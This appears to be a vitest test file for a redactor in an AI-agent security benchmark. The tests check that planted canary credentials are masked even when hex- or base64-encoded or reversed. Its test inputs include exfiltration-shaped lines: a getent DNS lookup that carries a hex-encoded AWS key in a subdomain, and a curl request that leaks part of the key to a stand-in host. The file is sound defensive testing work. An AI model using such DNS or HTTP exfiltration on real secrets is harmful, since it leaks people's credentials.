import { readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { loadConfigOrThrow } from '../../config/load.js';
import { packageRoot } from '../../package-root.js';
import { makeConfig } from '../test-bundle.js';
import { runRedactor } from './run-redactor.js';

const root = packageRoot();
const configs = ['benchmarks', 'benchmarks/attacks'].flatMap((dir) =>
  readdirSync(path.join(root, dir))
    .map((name) => path.join(root, dir, name, 'config.yaml'))
    .filter((file) => {
      try {
        return readFileSync(file).length > 0;
      } catch {
        return false;
      }
    }),
);

describe('runRedactor', () => {
  // config.json and rules.json are redacted like any artifact, and analyze judges by them again:
  // policy text must come through untouched.
  it('leaves the built-in task configs and the default rules as they are', () => {
    expect(configs.length).toBeGreaterThan(10);
    for (const file of configs) {
      const cfg = loadConfigOrThrow(file);
      expect(runRedactor(cfg, null).value(cfg), file).toEqual(cfg);
    }
    const rules = path.join(root, 'rules');
    const redactor = runRedactor(makeConfig(), null);
    for (const name of readdirSync(rules).filter((f) => f.endsWith('.yaml'))) {
      const text = readFileSync(path.join(rules, name), 'utf8');
      expect(redactor.text(text), name).toBe(text);
    }
  });

  it('adds the run canaries and configured literals to the built-in rules', () => {
    const cfg = makeConfig({ secret_detectors: [{ name: 'internal', literal: 'project-zebra-7' }] });
    const canaries = {
      home: '/root',
      canaries: [{ kind: 'npm-token', path: '.npmrc', token: 'npm_0f1e2d3c4b5a69788796' }],
    };
    const out = runRedactor(cfg, canaries).text(
      'npm_0f1e2d3c4b5a69788796 project-zebra-7 --password hunter2',
    );
    expect(out).toMatch(
      /^\[REDACTED:canary-npm-token:[0-9a-f]{8}\] \[REDACTED:internal\] --password \[REDACTED:cli-credential\]$/,
    );
  });
});

describe('runRedactor on encoded canaries', () => {
  const token = 'AKIA7F3C9E21B04D6A58';
  const redactor = runRedactor(makeConfig(), {
    home: '/root',
    canaries: [{ kind: 'aws-credentials', path: '.aws/credentials', token }],
  });
  const hex = Buffer.from(token).toString('hex');

  it('redacts every form the scan finds, and pieces of 10 bytes or more, with the token marker', () => {
    const forms = [
      token.toLowerCase(),
      [...token].reverse().join(''),
      hex,
      hex.toUpperCase(),
      Buffer.from(`x${token}`).toString('base64'),
      `getent hosts 0.${hex.slice(0, 22)}.edge.cdn-warm.net`,
      `curl 'http://a.test/?p=${token.slice(6)}'`,
    ];
    for (const text of forms) {
      const out = redactor.text(text);
      expect(out, text).toMatch(/\[REDACTED:canary-aws-credentials:[0-9a-f]{8}\]/);
      expect(out).not.toContain(hex.slice(0, 20));
      expect(out).not.toContain(token.slice(6, 16));
    }
    // Structured evidence too (a DNS record's host).
    expect(redactor.value({ host: `${hex.slice(0, 22)}.x.test` }).host).toMatch(
      /^\[REDACTED:canary-aws-credentials:/,
    );
  });

  it('leaves a short piece and honest hex alone', () => {
    const text = `sha ${'0123456789abcdef'.repeat(4)} piece ${token.slice(4, 12)}`;
    expect(redactor.text(text)).toBe(text);
  });
});
